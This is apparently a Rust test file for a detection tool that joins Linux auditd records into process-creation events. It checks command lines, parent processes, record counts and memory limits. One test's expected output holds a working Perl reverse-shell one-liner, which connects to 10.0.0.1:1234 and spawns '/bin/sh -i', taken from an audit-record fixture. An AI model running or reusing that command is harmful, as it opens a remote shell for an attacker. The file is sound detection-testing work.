//! Records of one audit serial are joined to one event.

use std::path::Path;

use vakt_codec::{Coalescer, Joined};
use vakt_event::Event;

use crate::{decoded, shared, shown};

/// Feeds lines of one source; shows what comes out, the end of the input included.
fn joined_with_records(lines: &str) -> Vec<Joined> {
    let mut coalescer = Coalescer::new();
    let mut found = Vec::new();
    for (position, line) in (0..).zip(lines.lines().filter(|line| !line.trim().is_empty())) {
        found.extend(coalescer.push("host", position, &decoded("-", line)));
    }
    found.extend(coalescer.finish());
    assert_eq!(coalescer.buffered_bytes(), 0);
    found
}

fn joined(lines: &str) -> Vec<Event<'static>> {
    let found = joined_with_records(lines).into_iter();
    found.map(|joined| joined.event).collect()
}

fn check_joined(lines: &str, expected: &[&str]) {
    let found: Vec<_> = joined(lines).iter().map(shown).collect();
    assert_eq!(found, expected);
}

const EXECUTION: &str = r#"type=SYSCALL msg=audit(1700000000.100:7): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=8 items=2 ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="ls" exe="/usr/bin/ls" key="exec"
type=EXECVE msg=audit(1700000000.100:7): argc=3 a0="ls" a1="-l" a2=2F746D702F6120622F
type=CWD msg=audit(1700000000.100:7): cwd="/root"
type=PATH msg=audit(1700000000.100:7): item=0 name="/usr/bin/ls" inode=1 nametype=NORMAL
"#;

const CREATION: &str = "event.dataset: auditd.process
event.category: process
event.type: start
event.action: process_created
auditd.id: 1700000000.100:7
event.sequence: 7
success: yes
process.parent.pid: 900
process.pid: 901
auid: 1000
user.audit.id: 1000
user.id: 0
user.effective.id: 0
tty: pts0
process.tty.name: pts0
ses: 3
comm: ls
process.name: ls
exe: /usr/bin/ls
process.executable: /usr/bin/ls
key: exec
user.name: root
process.command_line: ls -l /tmp/a b/
process.working_directory: /root
ProcessId: 901
ParentProcessId: 900
@time 2023-11-14T22:13:20.1Z
@ product=linux,category=process_creation
";

#[test]
fn an_execution_is_joined_at_proctitle_at_eoe_at_another_serial_and_at_the_end() {
    let ends = [
        "type=PROCTITLE msg=audit(1700000000.100:7): proctitle=6C73002D6C",
        "type=EOE msg=audit(1700000000.100:7): ",
        "type=CWD msg=audit(1700000000.200:8): cwd=\"/\"",
        "",
    ];
    for end in ends {
        check_joined(&format!("{EXECUTION}{end}"), &[CREATION]);
    }
}

#[test]
fn late_records_of_a_serial_that_was_given_out_open_nothing() {
    let late = "type=CWD msg=audit(1700000000.200:8): cwd=\"/\"
type=EXECVE msg=audit(1700000000.100:7): argc=3 a0=\"ls\"
type=PROCTITLE msg=audit(1700000000.100:7): proctitle=6C73
type=EOE msg=audit(1700000000.100:7): ";
    check_joined(&format!("{EXECUTION}{late}"), &[CREATION]);
}

#[test]
fn executions_that_failed_or_never_named_arguments_are_none() {
    check_joined(
        r#"type=SYSCALL msg=audit(1700000000.100:7): arch=c000003e syscall=59 success=no exit=-2 ppid=1 pid=2 exe="/bin/sh"
type=EXECVE msg=audit(1700000000.100:7): argc=1 a0="x"
type=EOE msg=audit(1700000000.100:7): 
type=SYSCALL msg=audit(1700000000.100:8): arch=c000003e syscall=42 success=yes exit=0 ppid=1 pid=2 exe="/bin/sh"
type=EOE msg=audit(1700000000.100:8): "#,
        &[],
    );
}

#[test]
fn a_long_argument_comes_in_parts_and_serials_interleave() {
    let lines = r#"type=SYSCALL msg=audit(1700000000.100:7): syscall=59 success=yes ppid=1 pid=2 exe="/bin/a"
type=EXECVE msg=audit(1700000000.100:7): argc=3 a0="a" a1_len=8 a1[0]=6161
type=SYSCALL msg=audit(1700000000.100:8): syscall=59 success=yes ppid=1 pid=3 exe="/bin/b"
type=EXECVE msg=audit(1700000000.100:7): a1[1]=6262 a2="end"
type=EXECVE msg=audit(1700000000.100:8): argc=1 a0="b"
type=EOE msg=audit(1700000000.100:7): 
type=EOE msg=audit(1700000000.100:8): "#;
    let found: Vec<_> = joined(lines)
        .iter()
        .map(|event| event.text("CommandLine").unwrap().to_owned())
        .collect();
    assert_eq!(found, ["a aabb end", "b"]);
}

#[test]
fn a_child_names_the_executable_of_a_parent_that_was_seen() {
    let lines = r#"type=SYSCALL msg=audit(1700000000.100:1): arch=c000003e syscall=56 success=yes exit=55 ppid=1 pid=40 exe="/usr/sbin/nginx"
type=SYSCALL msg=audit(1700000000.100:2): arch=c000003e syscall=59 success=yes ppid=55 pid=56 exe="/bin/sh"
type=EXECVE msg=audit(1700000000.100:2): argc=1 a0="sh""#;
    let found = joined(lines);
    assert_eq!(found[0].text("ParentImage"), Some("/usr/sbin/nginx"));
}

/// The line that completed an execution was its only evidence.
#[test]
fn an_execution_names_the_records_that_it_consists_of() {
    let check = |lines: &str, expected: &[(&[u64], u64)]| {
        let found: Vec<_> = joined_with_records(lines)
            .into_iter()
            .map(|joined| (joined.records, joined.record_count))
            .collect();
        let expected: Vec<_> = expected
            .iter()
            .map(|(records, count)| (records.to_vec(), *count))
            .collect();
        assert_eq!(found, expected);
    };
    let title = "type=PROCTITLE msg=audit(1700000000.100:7): proctitle=\"ls\"\n";
    let end = "type=EOE msg=audit(1700000000.100:7): \n";
    let other = "type=USER_LOGIN msg=audit(1700000000.100:8): pid=1 res=success\n";
    check(
        &format!("{other}{EXECUTION}{title}{end}"),
        &[(&[1, 2, 3, 4, 5], 5)],
    );
    check(&format!("{EXECUTION}{end}"), &[(&[0, 1, 2, 3, 4], 5)]);
    // A record of another serial shows that it is whole, and is no part of it.
    check(&format!("{EXECUTION}{other}"), &[(&[0, 1, 2, 3], 4)]);
    check(EXECUTION, &[(&[0, 1, 2, 3], 4)]);
    // Of many records the first ones and the last are named, and all are counted.
    let path = "type=PATH msg=audit(1700000000.100:7): item=2 name=\"/lib\"\n".repeat(40);
    let named: Vec<u64> = (0..31).chain([44]).collect();
    check(&format!("{EXECUTION}{path}{title}"), &[(&named, 45)]);
}

#[test]
fn many_sources_and_endless_executions_stay_bounded() {
    let mut coalescer = Coalescer::new();
    let argument = "61".repeat(20_000);
    for serial in 0..2_000_u32 {
        let line = format!(
            "type=EXECVE msg=audit(1700000000.100:{serial}): argc=2 a0=\"x\" a1={argument}"
        );
        let key = format!("host{}", serial % 700);
        coalescer.push(&key, u64::from(serial), &decoded("-", &line));
        assert!(coalescer.buffered_bytes() <= 17 * 1024 * 1024);
    }
    coalescer.finish();
    assert_eq!(coalescer.buffered_bytes(), 0);
}

/// Every execution of the corpus that has a system call and arguments is joined once, with the
/// command line that its EXECVE record gives.
#[test]
fn real_audit_records_are_joined() {
    let check = |file: &str, expected: &[(&str, &str, &str)]| {
        let Some(lines) = shared(&format!("auditd/laurel/{file}")) else {
            return;
        };
        let lines: Vec<_> = lines
            .lines()
            .filter(|line| line.starts_with("type=") || line.starts_with("node="))
            .collect();
        let events = joined(&lines.join("\n"));
        let found: Vec<_> = events
            .iter()
            .map(|event| {
                (
                    event.text("Image").unwrap_or(""),
                    event.text("CommandLine").unwrap_or(""),
                    event.text("User").unwrap_or(""),
                )
            })
            .collect();
        assert_eq!(found, expected, "{file}");
    };
    check(
        "record-execve.txt",
        &[("/usr/bin/whoami", "whoami", "root")],
    );
    let perl = "perl -e use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,\
                getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");\
                open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};";
    check(
        "record-perl-reverse-shell.txt",
        &[("/usr/bin/perl", perl, "root")],
    );
    check("record-connect.txt", &[]);
    check("record-syscall-key.txt", &[]);
}

/// The argument of this record, 8 KiB in 16,384 hexadecimal digits, comes in three parts.
#[test]
fn a_real_long_argument_is_put_together() {
    let Some(lines) = shared("auditd/laurel/record-execve-long.txt") else {
        return;
    };
    let events = joined(&lines);
    let line = events[0].text("CommandLine").unwrap();
    assert_eq!(events.len(), 1);
    assert_eq!(line.len(), "/bin/echo ".len() + 8192);
}

/// All lines of the corpus decode without a problem and without a panic.
#[test]
fn real_audit_records_decode() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/auditd/laurel");
    let Ok(entries) = std::fs::read_dir(folder) else {
        println!("skipped: {}: ../shared is absent", crate::test_name());
        return;
    };
    let mut count = 0;
    for entry in entries {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|extension| extension != "txt") {
            continue;
        }
        let text = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
        for line in text.lines().filter(|line| line.starts_with("type=")) {
            let event = decoded("-", line);
            assert!(event.problems.is_empty(), "{line}");
            assert!(event.has("type") && event.has("auditd.id"), "{line}");
            count += 1;
        }
    }
    assert!(count > 100, "{count} records");
}
